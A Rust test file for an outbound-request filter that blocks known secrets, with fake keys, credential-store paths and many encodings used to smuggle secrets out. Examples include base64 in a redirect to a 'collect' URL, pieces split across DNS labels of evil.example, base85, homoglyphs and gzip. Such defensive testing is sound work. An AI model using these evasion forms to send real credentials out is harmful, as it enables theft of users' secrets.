//! BEYOND-6 at the door, against real loopback fixture servers through the
//! test kit's seams: a request carrying a known secret — in the URL, a
//! redirect's Location, a header or the body, in any form the door sees — is
//! refused before its name is resolved, and the servers receive nothing of
//! it. An API key travels only as its declared credential. Assertions are on
//! what the servers received and what the resolver was asked.
#![allow(clippy::disallowed_methods, clippy::expect_used, clippy::unwrap_used)]

use base64::Engine as _;
use ploy_egress::{Credential, FetchOutcome, Fetcher, SecretDoor};
use ploy_testkit::net::*;
use ploy_testkit::{Received, Reply, WebServer};
use tokio_util::sync::CancellationToken;

const SECRET: &str = "Tr0ub4dor-and-3-horses";
const KEY: &str = "tvly-CANARYkey0123456789abcdefXYZ";

fn refusal_rule(outcome: &FetchOutcome) -> Option<&'static str> {
    match outcome {
        FetchOutcome::Refused(refusal) => Some(refusal.rule),
        _ => None,
    }
}

/// Every form of `secret` a server could have received, checked by a door
/// of its own over the whole request text (head and body).
fn carries(received: &[Received], secret: &str) -> bool {
    let witness = SecretDoor::new([secret]);
    received.iter().any(|request| {
        witness
            .check_text(ploy_egress::Part::Body, &request.text(), true)
            .is_err()
            || witness.check_body(&request.body).is_err()
    })
}

struct Setup {
    server: WebServer,
    other: WebServer,
    resolver: ScriptedResolver,
    dial: MapDial,
    fetcher: Fetcher,
}

async fn setup() -> Setup {
    let other = WebServer::start(|_| Reply::text("other")).await;
    let server = WebServer::start(move |request| match request.path() {
        "/leak-redirect" => Reply::redirect(
            302,
            &format!(
                "http://other.example.com/collect?d={}",
                base64::engine::general_purpose::STANDARD.encode(SECRET)
            ),
        ),
        "/plain-redirect" => Reply::redirect(302, "http://other.example.com/fine"),
        _ => Reply::text("ok"),
    })
    .await;
    let dial = MapDial::default();
    dial.map(PUB_A, server.addr());
    dial.map(PUB_B, other.addr());
    let resolver = ScriptedResolver::default();
    resolver.fixed("api.example.com", &[PUB_A]);
    resolver.fixed("other.example.com", &[PUB_B]);
    let fetcher =
        fetcher(&resolver, &dial, quick_config()).with_secrets(SecretDoor::new([SECRET, KEY]));
    Setup {
        server,
        other,
        resolver,
        dial,
        fetcher,
    }
}

async fn get(fetcher: &Fetcher, url: &str) -> FetchOutcome {
    fetcher
        .fetch(url, &CancellationToken::new())
        .await
        .expect("not cancelled")
}

// proves: BEYOND-6 (URL, host labels, encodings, case; refused before resolving)
#[tokio::test]
async fn a_secret_anywhere_in_a_url_is_refused_before_its_name_is_resolved() {
    let s = setup().await;
    let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
    let b64url = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(format!("x:{SECRET}"));
    let hex: String = SECRET.bytes().map(|b| format!("{b:02X}")).collect();
    let every_char: String = SECRET.bytes().map(|b| format!("%{b:02x}")).collect();
    let urls = [
        format!("http://api.example.com/?q={SECRET}"),
        format!("http://api.example.com/{SECRET}/page"),
        format!("http://api.example.com/?q={every_char}"),
        "http://api.example.com/?q=Tr0ub4dor%252Dand%252D3%252Dhorses".to_owned(),
        format!("http://api.example.com/?b={b64}"),
        format!("http://api.example.com/?b={b64url}"),
        format!("http://api.example.com/?h={hex}"),
        format!("http://api.example.com/?h={}", hex.to_lowercase()),
        format!("http://api.example.com/?q={}", SECRET.to_uppercase()),
        // The name itself (a DNS query is a message too).
        "http://tr0ub4dor-and-3-horses.api.example.com/".to_owned(),
        "http://tr0ub4.dor-and.3-horses.api.example.com/".to_owned(),
        format!("http://api.example.com/#{SECRET}"),
        format!("http://api.example.com/?{SECRET}=1"),
    ];
    for url in &urls {
        let outcome = get(&s.fetcher, url).await;
        assert_eq!(
            refusal_rule(&outcome),
            Some("BEYOND-6"),
            "{url}: {outcome:?}"
        );
        assert!(
            !format!("{outcome:?}").contains("horses"),
            "{url}: the reason names the value"
        );
    }
    assert_eq!(
        s.resolver.queries(),
        0,
        "a refused request resolves nothing"
    );
    assert!(s.dial.dialled().is_empty());
    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
    // The door still lets ordinary requests through.
    let fine = get(
        &s.fetcher,
        "http://api.example.com/?q=horses+and+troubadours",
    )
    .await;
    assert!(matches!(fine, FetchOutcome::Page(_)), "{fine:?}");
}

// proves: BEYOND-6, URL-3 (each hop's Location is checked as written)
#[tokio::test]
async fn a_redirect_carrying_a_secret_is_refused_and_its_target_receives_nothing() {
    let s = setup().await;
    let outcome = get(&s.fetcher, "http://api.example.com/leak-redirect").await;
    assert_eq!(refusal_rule(&outcome), Some("BEYOND-6"), "{outcome:?}");
    assert!(
        s.other.requests().is_empty(),
        "the redirect target was reached"
    );
    let fine = get(&s.fetcher, "http://api.example.com/plain-redirect").await;
    assert!(matches!(fine, FetchOutcome::Page(_)), "{fine:?}");
    assert_eq!(s.other.requests().len(), 1);
    assert!(!carries(&s.server.requests(), SECRET));
    assert!(!carries(&s.other.requests(), SECRET));
}

async fn post(fetcher: &Fetcher, url: &str, credential: &Credential, body: &str) -> FetchOutcome {
    fetcher
        .post_json(
            url,
            credential,
            body.as_bytes().to_vec(),
            &CancellationToken::new(),
        )
        .await
        .expect("not cancelled")
}

// proves: BEYOND-6 (the one exception: a key to its declared origin, in its
// header, and nowhere else; secrets in a JSON body in any escape)
#[tokio::test]
async fn a_key_goes_only_to_its_own_origin_in_its_own_header() {
    let s = setup().await;
    let key = Credential::bearer_for(KEY, "http://api.example.com/").unwrap();
    let body = r#"{"query":"rust tokio timeout"}"#;
    // Its own place: accepted, and the server sees it only there.
    let ok = post(&s.fetcher, "http://api.example.com/search", &key, body).await;
    assert!(matches!(ok, FetchOutcome::Page(_)), "{ok:?}");
    let received = s.server.requests();
    assert_eq!(received.len(), 1);
    assert_eq!(
        received[0].header("authorization"),
        Some(format!("Bearer {KEY}").as_str())
    );
    assert!(!received[0].target.contains("CANARY") && !received[0].body_text().contains("CANARY"));

    let escaped_secret = SECRET
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect::<String>();
    for (url, body, what) in [
        (
            "http://other.example.com/search",
            body.to_owned(),
            "another host",
        ),
        (
            "http://api.example.com:8080/search",
            body.to_owned(),
            "another port",
        ),
        (
            "https://api.example.com/search",
            body.to_owned(),
            "another scheme",
        ),
        (
            "http://api.example.com/search?api_key=tvly-CANARYkey0123456789abcdefXYZ",
            body.to_owned(),
            "the key in the URL",
        ),
        (
            "http://api.example.com/search",
            format!(r#"{{"query":"x","api_key":"{KEY}"}}"#),
            "the key in the body",
        ),
        (
            "http://api.example.com/search",
            format!(r#"{{"query":"{escaped_secret}"}}"#),
            "another secret, \\u-escaped, in the body",
        ),
        (
            "http://api.example.com/search",
            format!(r#"{{"query":"{}"}}"#, SECRET.to_lowercase()),
            "another secret, lower-cased, in the body",
        ),
    ] {
        let outcome = post(&s.fetcher, url, &key, &body).await;
        assert_eq!(
            refusal_rule(&outcome),
            Some("BEYOND-6"),
            "{what}: {outcome:?}"
        );
    }
    // Nothing more arrived anywhere: no second request, and the other host
    // never saw the key or the secret.
    assert_eq!(s.server.requests().len(), 1);
    assert!(s.other.requests().is_empty());
    assert!(!carries(&s.server.requests(), SECRET));
    // A door that does not know the key still keeps it in its place.
    let unaware = s.fetcher.with_secrets(SecretDoor::empty());
    let outcome = post(
        &unaware,
        "http://api.example.com/search?k=tvly-CANARYkey0123456789abcdefXYZ",
        &key,
        body,
    )
    .await;
    assert_eq!(refusal_rule(&outcome), Some("BEYOND-6"), "{outcome:?}");
    let outcome = post(&unaware, "http://other.example.com/search", &key, body).await;
    assert_eq!(refusal_rule(&outcome), Some("BEYOND-6"), "{outcome:?}");
    assert!(s.other.requests().is_empty());
}

// proves: BEYOND-6 (text still percent-encoded after 4 rounds is not sent)
#[tokio::test]
async fn a_url_encoded_past_what_the_door_decodes_is_refused() {
    let s = setup().await;
    // `A` percent-encoded five times over.
    let url = "http://api.example.com/?q=%2525252541";
    let outcome = get(&s.fetcher, url).await;
    assert_eq!(refusal_rule(&outcome), Some("BEYOND-6"), "{outcome:?}");
    assert!(s.server.requests().is_empty());
    // Four layers are read through.
    let outcome = get(&s.fetcher, "http://api.example.com/?q=%25252541").await;
    assert!(matches!(outcome, FetchOutcome::Page(_)), "{outcome:?}");
}

// proves: BEYOND-6, REDACT-1 (outside attacks agent #3 / panel-secrets #2:
// the hex of a 14-character piece of a secret shorter than 24 characters
// left through the door; now a 14-character fragment of a 16..23-character
// secret is refused in every form a fragment is known in)
#[tokio::test]
async fn a_fragment_of_a_shorter_secret_is_refused_in_hex_base64_and_plain() {
    let s = setup().await;
    assert!(SECRET.len() < ploy_secrets::FRAGMENT_MIN_SECRET_CHARS);
    let size = ploy_secrets::SHORT_FRAGMENT_CHARS;
    for start in [0, 3, SECRET.len() - size] {
        let piece = &SECRET[start..start + size];
        let hex: String = piece.bytes().map(|b| format!("{b:02x}")).collect();
        let spaced: Vec<String> = piece.bytes().map(|b| format!("{b:02X}")).collect();
        let b64 = base64::engine::general_purpose::STANDARD.encode(piece);
        for url in [
            format!("http://api.example.com/?f={hex}"),
            format!("http://api.example.com/?f={}", spaced.join("%20")),
            format!("http://api.example.com/?f={b64}"),
            format!("http://api.example.com/x/{piece}/y"),
        ] {
            let outcome = get(&s.fetcher, &url).await;
            assert_eq!(
                refusal_rule(&outcome),
                Some("BEYOND-6"),
                "{url}: {outcome:?}"
            );
        }
    }
    // A piece one character shorter is not a fragment: it goes through.
    let short = &SECRET[..size - 1];
    let hex: String = short.bytes().map(|b| format!("{b:02x}")).collect();
    let fine = get(&s.fetcher, &format!("http://api.example.com/?f={hex}")).await;
    assert!(matches!(fine, FetchOutcome::Page(_)), "{fine:?}");
    assert_eq!(
        s.server.requests().len(),
        1,
        "only the short piece was sent"
    );
    assert!(!carries(&s.server.requests(), SECRET));
}

/// The outside tester's key (tui-rpc #12).
const CUT_KEY: &str = "sk-live-abcdef0123456789XYZ";

// proves: BEYOND-6 (tui-rpc #12: a known secret cut into pieces shorter
// than a fragment, with filler between them, in one request, in any order)
#[tokio::test]
async fn a_secret_cut_into_short_pieces_with_filler_is_refused() {
    let s = setup().await;
    let fetcher = s
        .fetcher
        .with_secrets(SecretDoor::new([SECRET, KEY, CUT_KEY]));
    for url in [
        // The three forms of the finding, as sent.
        "http://api.example.com/?x=sk-live-ab&x=cdef01234&x=56789XYZ",
        "http://api.example.com/?a=sk-live-a&b=bcdef01&c=23456789XYZ",
        "http://api.example.com/sk-live-ab/x/cdef01234/y/56789XYZ",
        // Reordered parameters: the server sorts them back.
        "http://api.example.com/?c=56789XYZ&a=sk-live-ab&b=cdef01234",
        // Pieces percent-encoded, HTML- or backslash-escaped.
        "http://api.example.com/?a=%73%6b-live-ab&b=cdef%30%31234&c=56789XYZ",
        "http://api.example.com/?a=sk-live-ab&b=%26%2399%3Bdef01234&c=56789XYZ",
        // Pieces in the host name's labels and the path.
        "http://abcdef0123.q.api.example.com/56789xyz",
        // Another known secret, in pieces.
        "http://api.example.com/?p=Tr0ub4&q=dor-and&r=3-horses",
    ] {
        let outcome = get(&fetcher, url).await;
        assert_eq!(
            refusal_rule(&outcome),
            Some("BEYOND-6"),
            "{url}: {outcome:?}"
        );
        let shown = format!("{outcome:?}");
        assert!(
            !shown.contains("cdef") && !shown.contains("orses"),
            "{url}: the reason names the value"
        );
    }
    // Pieces split between the URL and a form body count together.
    let outcome = fetcher
        .post_form(
            "http://api.example.com/form?a=sk-live-ab",
            b"b=cdef01234&c=56789XYZ".to_vec(),
            &CancellationToken::new(),
        )
        .await
        .expect("not cancelled");
    assert_eq!(refusal_rule(&outcome), Some("BEYOND-6"), "{outcome:?}");
    assert!(s.server.requests().is_empty(), "a piece reached the server");
    assert_eq!(s.resolver.queries(), 0, "a name was resolved");

    // What stays allowed: the provider prefix alone, one piece, ordinary pages.
    for url in [
        "http://api.example.com/docs/keys?prefix=sk-live-",
        "http://api.example.com/?q=sk-",
        "http://api.example.com/?q=sk-live-abc",
        "http://api.example.com/search?q=troubadour+and+horses",
    ] {
        let outcome = get(&fetcher, url).await;
        assert!(
            matches!(outcome, FetchOutcome::Page(_)),
            "{url}: {outcome:?}"
        );
    }
    assert!(!carries(&s.server.requests(), CUT_KEY));
}

// proves: BEYOND-6 (tui-rpc #8: a token in the project's git remote URL is a
// known secret, so the door refuses to send it, alone or as `user:token`)
#[tokio::test]
async fn a_git_remote_token_of_the_project_never_leaves() {
    const TOKEN: &str = "ghp_R3alT0kenValue1234567890abcdefABCD";
    let s = setup().await;
    let dir = std::env::temp_dir().join(format!("ploy-door-git-{}", std::process::id()));
    std::fs::create_dir_all(dir.join(".git")).unwrap();
    std::fs::write(
        dir.join(".git/config"),
        format!("[remote \"origin\"]\n\turl = https://alice:{TOKEN}@github.com/alice/repo.git\n"),
    )
    .unwrap();
    let sources = ploy_secrets::SecretSources {
        project: Some(dir.clone()),
        ..Default::default()
    };
    let set = ploy_secrets::sources_secrets(&sources, &|_| None, &|_| false).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
    for url in [
        format!("http://api.example.com/?d={TOKEN}"),
        format!("http://api.example.com/?d=alice:{TOKEN}"),
        format!("http://api.example.com/?d=alice%3A{TOKEN}"),
    ] {
        let outcome = get(&fetcher, &url).await;
        assert_eq!(
            refusal_rule(&outcome),
            Some("BEYOND-6"),
            "{url}: {outcome:?}"
        );
    }
    assert!(s.server.requests().is_empty());
    assert_eq!(s.resolver.queries(), 0);
}

/// The bytes of `value` gzip-compressed.
fn gzip(value: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(value).expect("gzip");
    encoder.finish().expect("gzip")
}

// proves: BEYOND-6 (secrets5 #4: full-width, NFD, Latin-1 %XX, decimal
// bytes, reversed, base64 of base64, of hex, of percent escapes, gzip and
// UTF-16 under base64/hex, in the URL and in a form body; nothing resolved,
// nothing received)
#[tokio::test]
async fn reversible_reshapings_of_a_secret_are_refused() {
    let s = setup().await;
    let b64 = |bytes: &[u8]| base64::engine::general_purpose::STANDARD.encode(bytes);
    let url_b64 = |bytes: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(bytes);
    let hex = |bytes: &[u8]| bytes.iter().map(|b| format!("{b:02x}")).collect::<String>();
    let full_width: String = KEY
        .chars()
        .map(|c| char::from_u32(c as u32 + 0xFEE0).expect("full-width"))
        .collect();
    let decimal = KEY
        .bytes()
        .map(|b| b.to_string())
        .collect::<Vec<_>>()
        .join(",");
    let reversed: String = KEY.chars().rev().collect();
    let utf16: Vec<u8> = KEY.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let percent_every: String = KEY.bytes().map(|b| format!("%{b:02X}")).collect();
    let forms = [
        url_encode(&full_width),
        decimal.clone(),
        reversed,
        url_b64(b64(KEY.as_bytes()).as_bytes()),
        url_b64(hex(KEY.as_bytes()).as_bytes()),
        url_b64(percent_every.as_bytes()),
        url_b64(&gzip(KEY.as_bytes())),
        hex(&gzip(KEY.as_bytes())),
        url_b64(&utf16),
        hex(&utf16),
    ];
    for form in &forms {
        assert_refused_in_url_and_form(&s.fetcher, form).await;
    }
    // A non-ASCII password: NFD and Latin-1 percent escapes.
    let door = SecretDoor::new(["Pässwörd2024!xyzÆ"]);
    for text in [
        "http://x.example/?p=Pa%CC%88sswo%CC%88rd2024!xyz%C3%86",
        "http://x.example/?p=P%E4ssw%F6rd2024!xyz%C6",
    ] {
        assert!(
            door.check_text(ploy_egress::Part::Url, text, true).is_err(),
            "{text}"
        );
    }
    assert_eq!(
        s.resolver.queries(),
        0,
        "a refused request resolves nothing"
    );
    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
    // Ordinary requests with numbers, base64 ids and gzip-looking data pass.
    for url in [
        "http://api.example.com/?ids=101,102,103,104,105,106,107,108,109",
        "http://api.example.com/?page=eyJvZmZzZXQiOjQwLCJsaW1pdCI6MjB9",
        "http://api.example.com/?q=%EF%BC%A1%EF%BC%A2%EF%BC%A3+full+width",
        "http://api.example.com/?q=sesroh+and+rodbuort",
    ] {
        let fine = get(&s.fetcher, url).await;
        assert!(matches!(fine, FetchOutcome::Page(_)), "{url}: {fine:?}");
    }
}

/// A GET carrying `form` in its query and a form POST carrying it in its
/// body are both refused by the secret door.
async fn assert_refused_in_url_and_form(fetcher: &Fetcher, form: &str) {
    let url = format!("http://api.example.com/c?d={form}");
    let outcome = get(fetcher, &url).await;
    assert_eq!(
        refusal_rule(&outcome),
        Some("BEYOND-6"),
        "{url}: {outcome:?}"
    );
    let outcome = fetcher
        .post_form(
            "http://api.example.com/submit",
            format!("q={form}").into_bytes(),
            &CancellationToken::new(),
        )
        .await
        .expect("not cancelled");
    assert_eq!(
        refusal_rule(&outcome),
        Some("BEYOND-6"),
        "body {form}: {outcome:?}"
    );
}

/// Every byte outside unreserved ASCII percent-encoded.
fn url_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

// proves: BEYOND-6 (round6 #5: decimal bytes joined by `.`, `-`, `_`, `/`
// or zero-padded, octal lists, Unicode tag characters, decimal in DNS
// labels, `grep -n -o .` output, Python's list of characters; in the URL
// and in a form body; nothing resolved, nothing received)
#[tokio::test]
async fn round6_reshapings_of_a_secret_are_refused() {
    let s = setup().await;
    let joined =
        |sep: &str, f: &dyn Fn(u8) -> String| KEY.bytes().map(f).collect::<Vec<_>>().join(sep);
    let tags: String = KEY
        .chars()
        .map(|c| char::from_u32(0xE0000 + c as u32).expect("tag"))
        .collect();
    let grep_n: String = KEY.chars().map(|c| format!("1:{c}\n")).collect();
    let python = format!(
        "[{}]",
        KEY.chars()
            .map(|c| format!("'{c}'"))
            .collect::<Vec<_>>()
            .join(", ")
    );
    let mut forms: Vec<String> = [".", "-", "_", "/"]
        .iter()
        .map(|sep| joined(sep, &|b| b.to_string()))
        .collect();
    forms.push(joined("", &|b| format!("{b:03}")));
    forms.push(joined(",", &|b| format!("{b:o}")));
    forms.push(url_encode(&tags));
    forms.push(url_encode(&grep_n));
    forms.push(url_encode(&python));
    for form in &forms {
        assert_refused_in_url_and_form(&s.fetcher, form).await;
    }
    // The first 17 bytes as decimal DNS labels, the rest in the path.
    let bytes: Vec<String> = KEY.bytes().map(|b| b.to_string()).collect();
    let url = format!(
        "http://{}.evil.example/{}",
        bytes[..17].join("."),
        bytes[17..].join(".")
    );
    let outcome = get(&s.fetcher, &url).await;
    assert_eq!(
        refusal_rule(&outcome),
        Some("BEYOND-6"),
        "{url}: {outcome:?}"
    );
    assert_eq!(
        s.resolver.queries(),
        0,
        "a refused request resolves nothing"
    );
    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
    // Ordinary dotted numbers, versions and numbered lines pass.
    for url in [
        "http://api.example.com/v1.2.3/10.0.0.1/2026-11-29/12:30:45",
        "http://api.example.com/?lines=1:a%0A2:b%0A3:c%0A4:d%0A5:e%0A6:f%0A7:g%0A8:h",
    ] {
        let fine = get(&s.fetcher, url).await;
        assert!(matches!(fine, FetchOutcome::Page(_)), "{url}: {fine:?}");
    }
}

// proves: BEYOND-6, REDACT-1 (round6 #6: every kind of credential file in
// a project — cookiecutter-django's `.envs/`, `.s3cfg`, gh's `hosts.yml`,
// `.aws/config`, `.bundle/config`, composer's `auth.json`, `.terraformrc`,
// Terraform state, `appsettings.*.json`, `#.env#`, Rails' `master.key`,
// PuTTY keys, multi-line and fish `.env` values, npm's base64 `_password`,
// cloud tools' token caches, ... — gives values the redactor built from the
// project removes and the door refuses to send; the server receives none)
#[tokio::test]
async fn every_credential_file_value_is_redacted_and_never_leaves() {
    use ploy_testkit::credential_files::{CREDENTIAL_FILES, write_all};
    let s = setup().await;
    let dir = std::env::temp_dir().join(format!("ploy-door-credfiles-{}", std::process::id()));
    write_all(&dir).unwrap();
    let sources = ploy_secrets::SecretSources {
        project: Some(dir.clone()),
        ..Default::default()
    };
    let set = ploy_secrets::sources_secrets(&sources, &|_| None, &|_| false).unwrap();
    std::fs::remove_dir_all(&dir).unwrap();
    let redactor = set.redactor();
    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
    for file in CREDENTIAL_FILES {
        for secret in file.secrets {
            let shown = format!("{} holds {secret} here\n", file.path);
            let out = redactor.redact(&shown);
            assert!(!out.contains(secret), "{}: not redacted: {out}", file.path);
            let url = format!("http://api.example.com/?d={}", url_encode(secret));
            let outcome = get(&fetcher, &url).await;
            assert_eq!(
                refusal_rule(&outcome),
                Some("BEYOND-6"),
                "{}: {url}: {outcome:?}",
                file.path
            );
        }
    }
    assert!(s.server.requests().is_empty());
    assert_eq!(s.resolver.queries(), 0);
    // What the files hold besides their secrets still goes out: the door
    // refuses the values, not everything.
    for plain in ["db.internal.example", "production", "composer-user"] {
        let outcome = get(&fetcher, &format!("http://api.example.com/?d={plain}")).await;
        assert_eq!(refusal_rule(&outcome), None, "{plain}: {outcome:?}");
    }
    assert_eq!(s.server.requests().len(), 3);
}

// proves: BEYOND-6, REDACT-1 (round7 #8: a credential inside an
// environment value under an ordinary name — JSON, `-Dk=v`, `--flag
// value` — is redacted and refused at the door; the server receives none)
#[tokio::test]
async fn credentials_inside_environment_values_never_leave() {
    use ploy_testkit::credential_files::EMBEDDED_ENV;
    let s = setup().await;
    let set = ploy_secrets::SecretSet::from_env(
        EMBEDDED_ENV
            .iter()
            .map(|(name, value, _)| ((*name).to_owned(), (*value).to_owned())),
        &|_| false,
    );
    let redactor = set.redactor();
    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
    for (name, _, secret) in EMBEDDED_ENV {
        let out = redactor
            .redact(&format!("login with {secret} failed"))
            .into_owned();
        assert_eq!(out, "login with [REDACTED] failed", "{name}");
        for url in [
            format!("http://api.example.com/search?q=error+{secret}+login"),
            format!("http://api.example.com/?d={}", url_encode(secret)),
        ] {
            let outcome = get(&fetcher, &url).await;
            assert_eq!(
                refusal_rule(&outcome),
                Some("BEYOND-6"),
                "{name}: {url}: {outcome:?}"
            );
        }
    }
    assert!(s.server.requests().is_empty());
    assert_eq!(s.resolver.queries(), 0);
    // The options around them still go out.
    let outcome = get(&fetcher, "http://api.example.com/?q=-Xmx1g+eu").await;
    assert_eq!(refusal_rule(&outcome), None, "{outcome:?}");
}

// proves: BEYOND-6 (round7 #13: the key in Ascii85, RFC 1924 base85 and
// Z85 at every alignment inside a blob, and uuencoded with spaces or
// backticks, in the URL and in a form body; nothing resolved, nothing
// received). Every-other-character spreading is not covered
// (docs/security.md).
#[tokio::test]
async fn round7_base85_and_uuencode_of_a_secret_are_refused() {
    let s = setup().await;
    // Python: `base64.a85encode(p + KEY + b".")`, `b85encode`, the latter
    // in Z85's alphabet; p = "", "u", "us:", "abc".
    let forms = [
        r"FEVJG/OMg!5uLj$AU,sa1,CaE2E*TU@:E_WAS,%I=tT",
        r"barfcEki+0K~h<3WqB|$GBY$aHa9pqVPa!sWoB4eS}p",
        r"BARFCeKI*0k#H<3wQb%:gby:AhA9PQvpA.SwOb4Es$P",
        r"F`_eCGqDBL:-hc\CLqcF0etOA2)[BQ3FQB,A7]@T=^!E",
        r"b#!)Yc`ZXhPC-&xYh`&bF)}kWH8wXmIbmXBWMyVpSz0a",
        r"B-.!yC}zxHpc?=XyH}=Bf!$Kwh8WxMiBMxbwmYvPsZ0A",
        r"F`TTcG&2FU6U=I5;H[dHGq^s.1GgsI2`Ng+@Uiq[Alr2>/c",
        r"b#pp&c5HbqLqSeKQdw(dc`z|DGc+|eH#j+AVq;`wW>{HTE&",
        r"B-PP=C5hBQlQsEkqDW^DC}Z%dgC*%Eh-J*avQ&}Ww(@hte=",
        r"@:E_gG&2FU6U=I5;H[dHGq^s.1GgsI2`Ng+@Uiq[Alr2>/c",
        r"VPa!+c5HbqLqSeKQdw(dc`z|DGc+|eH#j+AVq;`wW>{HTE&",
        r"vpA.*C5hBQlQsEkqDW^DC}Z%dgC*%Eh-J*avQ&}Ww(@hte=",
        // `binascii.b2a_uu(b"token=" + KEY)` and with backtick=True.
        "begin 644 k\nG=&]K96X]='9L>2U#04Y!4EEK97DP,3(S-#4V-S@Y86)C9&5F6%E:\n`\nend\n",
    ];
    for form in forms {
        assert_refused_in_url_and_form(&s.fetcher, &url_encode(form)).await;
    }
    assert_eq!(s.resolver.queries(), 0);
    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
}

/// `secret` with every letter that has a Cyrillic or Greek look-alike
/// written as that look-alike (round8 #8).
fn look_alike(secret: &str) -> String {
    secret
        .chars()
        .map(|c| match c {
            's' => 'ѕ',
            'k' => 'κ',
            'a' => 'а',
            'e' => 'е',
            'o' => 'ο',
            'p' => 'р',
            'c' => 'с',
            'x' => 'х',
            'y' => 'у',
            'K' => 'Κ',
            'A' => 'А',
            'T' => 'Т',
            'C' => 'С',
            other => other,
        })
        .collect()
}

// proves: BEYOND-6 (round8 #8: a known secret written with Perl's escapes
// `\x{73}`, `\N{U+0073}`, `\o{163}` or with Cyrillic/Greek look-alike
// letters is refused at the door, in the URL and in a form body; nothing
// resolved, nothing received)
#[tokio::test]
async fn round8_8_perl_escapes_and_look_alikes_are_refused_at_the_door() {
    let s = setup().await;
    let perl_hex: String = KEY.bytes().map(|b| format!("\\x{{{b:x}}}")).collect();
    let perl_name: String = KEY.bytes().map(|b| format!("\\N{{U+{b:04X}}}")).collect();
    let perl_octal: String = KEY.bytes().map(|b| format!("\\o{{{b:o}}}")).collect();
    let mixed: String = KEY
        .bytes()
        .enumerate()
        .map(|(i, b)| match i % 3 {
            0 => format!("\\x{{{b:02x}}}"),
            1 => char::from(b).to_string(),
            _ => format!("\\N{{U+{b:04x}}}"),
        })
        .collect();
    let homoglyphs = look_alike(KEY);
    let key_door = SecretDoor::new([KEY]);
    assert!(!homoglyphs.is_ascii() && homoglyphs.chars().filter(|c| !c.is_ascii()).count() >= 6);
    for form in [perl_hex, perl_name, perl_octal, mixed, homoglyphs.clone()] {
        assert_refused_in_url_and_form(&s.fetcher, &url_encode(&form)).await;
        assert!(
            key_door
                .check_sent_text(&format!("error near {form} in line 3"))
                .is_err(),
            "{form}"
        );
    }
    // A search phrase as written (not percent-encoded) too.
    let door = SecretDoor::new([SECRET]);
    assert!(door.check_sent_text(&look_alike(SECRET)).is_err());
    assert_eq!(
        s.resolver.queries(),
        0,
        "a refused request resolves nothing"
    );
    assert!(s.server.requests().is_empty() && s.other.requests().is_empty());
    // Ordinary Russian and Greek text passes.
    for text in [
        "http://api.example.com/search?q=ошибка сервера при входе",
        "http://api.example.com/search?q=καλημέρα κόσμε",
    ] {
        assert_ne!(refusal_rule(&get(&s.fetcher, text).await), Some("BEYOND-6"));
    }
}

// proves: BEYOND-6 (round8 #4: a secret of the user's credential stores —
// `~/.aws/credentials`, `~/.config/gh/hosts.yml`, `~/.npmrc`,
// `~/.git-credentials`, `~/.docker/config.json` — is known to the door, so
// a request carrying it is refused and the server receives nothing)
#[tokio::test]
async fn round8_4_secrets_of_the_home_credential_stores_never_leave() {
    const STORES: &[(&str, &str, &str)] = &[
        (
            ".aws/credentials",
            "[default]\naws_secret_access_key = hOmEsEcReT/K7MDENG/bPxRfiCYzzKEYa1\n",
            "hOmEsEcReT/K7MDENG/bPxRfiCYzzKEYa1",
        ),
        (
            ".config/gh/hosts.yml",
            "github.com:\n    user: alice\n    oauth_token: gho_HomeGhOauthTok3n1234567890abcd\n",
            "gho_HomeGhOauthTok3n1234567890abcd",
        ),
        (
            ".npmrc",
            "//registry.npmjs.org/:_authToken=npm_HomeNpmAuthTok3n0123456789abcd\n",
            "npm_HomeNpmAuthTok3n0123456789abcd",
        ),
        (
            ".git-credentials",
            "https://alice:GitCredsPassw0rd-77@github.com\n",
            "GitCredsPassw0rd-77",
        ),
        (
            ".docker/config.json",
            "{\"auths\": {\"https://index.docker.io/v1/\": {\"auth\": \"YWxpY2U6RG9ja2VyUGFzc3cwcmQtOTk=\"}}}",
            "DockerPassw0rd-99",
        ),
    ];
    let s = setup().await;
    let home = std::env::temp_dir().join(format!("ploy-door-home-{}", std::process::id()));
    for (store, text, _) in STORES {
        let path = home.join(store);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, text).unwrap();
    }
    let sources = ploy_secrets::SecretSources {
        home: Some(home.clone()),
        ..Default::default()
    };
    let set = ploy_secrets::sources_secrets(&sources, &|_| None, &|_| false).unwrap();
    std::fs::remove_dir_all(&home).unwrap();
    let fetcher = s.fetcher.with_secrets(SecretDoor::from_set(&set));
    for (store, _, secret) in STORES {
        let url = format!("http://api.example.com/c?d={}", url_encode(secret));
        let outcome = get(&fetcher, &url).await;
        assert_eq!(
            refusal_rule(&outcome),
            Some("BEYOND-6"),
            "{store}: {outcome:?}"
        );
    }
    assert!(s.server.requests().is_empty());
    assert_eq!(s.resolver.queries(), 0);
}
